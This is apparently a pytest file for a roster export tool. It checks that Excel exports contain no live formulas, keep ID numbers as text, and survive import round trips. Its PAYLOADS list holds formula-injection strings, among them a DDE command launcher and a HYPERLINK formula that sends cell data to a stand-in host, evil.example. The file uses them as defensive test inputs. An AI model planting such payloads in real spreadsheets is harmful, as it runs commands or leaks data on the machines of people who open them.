"""Roster export: formula-proof text cells, IDs as text, round trips, template, per-unit sheets."""

from __future__ import annotations

import random
import sqlite3
import zipfile
from pathlib import Path

import openpyxl
import python_calamine

from ikrar_desktop.domain.employee import EmployeeDraft
from ikrar_desktop.exchange import columns as cols
from ikrar_desktop.services import roster_export as rx
from ikrar_desktop.services.registry import add_employee
from ikrar_desktop.services.roster_import import apply_import
from ikrar_desktop.services.roster_session import plan_import
from ikrar_desktop.store.employees import EmployeeFilter
from ikrar_desktop.store.schema import open_database
from inprocess_read import read_spreadsheet_inprocess

PAYLOADS = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "＝1+1",
            '=HYPERLINK("http://evil.example/?"&A1,"klik")', "\r=1+1", "\n=1+1"]  # fmt: skip


def _random_nips(n: int, seed: int = 7) -> list[str]:
    rnd = random.Random(seed)
    out: set[str] = set()
    while len(out) < n:
        born = rnd.randint(1960, 1999)
        birth = f"{born}{rnd.randint(1, 12):02d}{rnd.randint(1, 28):02d}"
        tmt = f"{rnd.randint(born + 19, 2023)}{rnd.randint(1, 12):02d}"
        out.add(f"{birth}{tmt}{rnd.randint(1, 2)}{rnd.randint(1, 999):03d}")
    return sorted(out)


def _formula_cells(path: Path) -> int:
    wb = openpyxl.load_workbook(path)  # data_only=False: formulas would show as type "f"
    count = sum(1 for ws in wb.worksheets for row in ws.iter_rows() for c in row
                if c.data_type == "f")  # fmt: skip
    with zipfile.ZipFile(path) as zf:
        xml = b"".join(zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/"))
    return count + xml.count(b"<f>") + xml.count(b"<f ")


def _snapshot(conn: sqlite3.Connection) -> list[tuple[object, ...]]:
    return conn.execute(
        "SELECT e.nip, e.nik, gelar_depan, nama, gelar_belakang, status, golongan, jabatan,"
        " jenis_jabatan, u.name, gender, birth_date, active FROM employees e"
        " LEFT JOIN units u ON u.id = e.unit_id ORDER BY e.nip, e.nik, nama"
    ).fetchall()


def test_formula_payloads_never_become_formulas_and_round_trip(
    conn: sqlite3.Connection, tmp_path: Path
) -> None:
    nips = _random_nips(len(PAYLOADS))
    for i, (payload, nip) in enumerate(zip(PAYLOADS, nips, strict=True)):
        add_employee(conn, EmployeeDraft(
            nama=f"{payload} Nama{i}" if i % 2 else payload, nip=nip, jabatan=payload,
            unit="Dinas Sosial", golongan="III/a",
        ))  # fmt: skip
    add_employee(conn, EmployeeDraft(nama="Honorer", nik="1810060706916602", unit=PAYLOADS[3]))
    before = _snapshot(conn)
    out = tmp_path / "pegawai.xlsx"
    assert rx.export_employees(conn, out) == len(PAYLOADS) + 1
    assert _formula_cells(out) == 0
    values = python_calamine.CalamineWorkbook.from_path(str(out)).get_sheet_by_index(0).to_python()
    jabatan = {row[8] for row in values[1:]}
    assert {p for p in PAYLOADS if p.strip() == p} <= jabatan
    plan = plan_import(conn, read_spreadsheet_inprocess(out))
    assert (len(plan.new), len(plan.changed), plan.errors) == (0, 0, [])
    other = open_database(tmp_path / "other.sqlite")
    apply_import(other, plan_import(other, read_spreadsheet_inprocess(out)))
    assert _snapshot(other) == before
    other.close()


def test_thousand_random_nips_survive_export_and_import(
    conn: sqlite3.Connection, tmp_path: Path
) -> None:
    nips = _random_nips(1000)
    rows: list[list[object]] = [["NIP", "NAMA", "UNIT KERJA"]]
    rows += [[nip, f"Pegawai {i}", f"Unit {i % 7}"] for i, nip in enumerate(nips)]
    from ikrar_desktop.exchange.rawbook import RawBook, RawSheet

    result = apply_import(conn, plan_import(conn, RawBook("x", "xlsx", [RawSheet("S", rows)])))
    assert result.inserted == 1000
    out = tmp_path / "all.xlsx"
    rx.export_employees(conn, out)
    wb = openpyxl.load_workbook(out, read_only=True)
    ws = wb.worksheets[0]
    exported = [r[1] for r in ws.iter_rows(min_row=2, values_only=True)]
    wb.close()
    assert all(isinstance(v, str) for v in exported) and sorted(exported) == nips  # type: ignore[type-var]
    other = open_database(tmp_path / "other.sqlite")
    apply_import(other, plan_import(other, read_spreadsheet_inprocess(out)))
    assert {r[0] for r in other.execute("SELECT nip FROM employees")} == set(nips)
    again = plan_import(conn, read_spreadsheet_inprocess(out))
    assert (len(again.new), len(again.changed), len(again.unchanged)) == (0, 0, 1000)
    other.close()


def test_export_styling_and_filter(conn: sqlite3.Connection, tmp_path: Path) -> None:
    add_employee(conn, EmployeeDraft(nama="Siti", nip="196803161988072006", unit="Dinas A"))
    out = tmp_path / "p.xlsx"
    rx.export_employees(conn, out, EmployeeFilter(active=None))
    ws = openpyxl.load_workbook(out).worksheets[0]
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref
    assert ws["B2"].number_format == "@" and ws["B2"].data_type == "s"
    assert ws["A1"].font.bold
    assert ws.column_dimensions["E"].width > 20


def test_export_headers_map_automatically() -> None:
    mapping = cols.auto_map([h for h, _w in rx.HEADERS])
    wanted = {cols.NIP, cols.NIK, cols.NAMA, cols.GELAR_DEPAN, cols.GELAR_BELAKANG, cols.STATUS,
              cols.GOLONGAN, cols.JABATAN, cols.JENIS_JABATAN, cols.UNIT, cols.GENDER,
              cols.BIRTH_DATE}  # fmt: skip
    assert set(mapping.columns) >= wanted


def test_template_has_text_id_columns_and_dropdowns(tmp_path: Path) -> None:
    out = rx.write_template(tmp_path / "templat.xlsx")
    ws = openpyxl.load_workbook(out).worksheets[0]
    assert [c.value for c in ws[1]] == [h for h, _w in rx.HEADERS]
    assert ws["B1000"].number_format == "@" and ws["C2"].number_format == "@"
    sources = [dv.formula1 for dv in ws.data_validations.dataValidation]
    assert any("PPPK Paruh Waktu" in (s or "") for s in sources)
    assert any("III/a" in (s or "") for s in sources)


def test_per_unit_rosters(conn: sqlite3.Connection, tmp_path: Path) -> None:
    add_employee(conn, EmployeeDraft(nama="Siti", nip="196803161988072006", unit="Dinas A"))
    add_employee(conn, EmployeeDraft(nama="Budi", nip="197112162007062022", unit="Dinas/B:x"))
    counts = rx.export_unit_rosters(conn, tmp_path / "u.xlsx")
    assert counts == {"Dinas A": 1, "Dinas/B:x": 1}
    names = openpyxl.load_workbook(tmp_path / "u.xlsx").sheetnames
    assert names == ["Dinas A", "Dinas B x"]
